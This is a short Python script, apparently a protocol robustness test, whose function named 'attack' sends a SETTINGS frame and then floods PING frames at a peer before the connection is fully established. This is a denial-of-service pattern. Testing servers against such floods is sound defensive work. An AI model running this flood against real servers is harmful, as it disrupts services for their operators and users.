"""Sends PING frames without an end before it is up."""

from wire import PING, SETTINGS, frame, serve


def attack(wire) -> None:
    wire.send(frame(SETTINGS, 0, 0))
    wire.flood(frame(PING, 0, 0, bytes(8)))


serve(at_start=attack)
